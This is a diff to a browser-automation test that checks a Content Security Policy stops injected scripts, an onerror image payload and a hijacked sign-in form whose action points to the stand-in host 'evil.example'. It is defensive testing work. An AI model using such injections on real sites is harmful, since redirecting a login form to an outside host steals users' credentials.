@@ -78,19 +78,20 @@ def test_a_second_factor_is_set_up_and_asked_for(visitor: Watched, gateway: Gate
 def test_a_script_that_gets_into_the_page_does_not_run(visitor: Watched) -> None:
     visitor.expected = ("Content Security Policy", "Content-Security-Policy", "404")
     page = visitor.page
-    page.evaluate(
-        """() => {
-            const script = document.createElement("script");
-            script.textContent = "window.wasRun = true";
-            document.body.append(script);
-            document.body.insertAdjacentHTML("beforeend", "<img src=/nothing.png onerror='window.wasRun = true'>");
-            document.querySelector("form").action = "https://evil.example/";
-        }"""
-    )
+    with page.expect_console_message(lambda said: "event handler" in said.text):
+        page.evaluate(
+            """() => {
+                const script = document.createElement("script");
+                script.textContent = "window.wasRun = true";
+                document.body.append(script);
+                document.body.insertAdjacentHTML("beforeend", "<img src=/nothing.png onerror='window.wasRun = true'>");
+                document.querySelector("form").action = "https://evil.example/";
+            }"""
+        )
     page.get_by_label("User name").fill("x")
     page.get_by_label("Password", exact=True).fill("x")
-    page.get_by_role("button", name="Sign in").click(no_wait_after=True)
-    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
-    assert page.evaluate("window.wasRun") is None
+    # Nothing here may wait for the end of the navigation: it is refused, which Chromium does not always report.
+    with page.expect_console_message(lambda said: "form-action" in said.text or "form data" in said.text):
+        page.get_by_role("button", name="Sign in").click(no_wait_after=True)
+    assert page.evaluate("[window.wasRun, location.pathname]") == [None, "/sign-in/"]
     assert any("script" in line and "Policy" in line for line in visitor.console), visitor.console
-    assert any("form-action" in line or "form data" in line for line in visitor.console), visitor.console
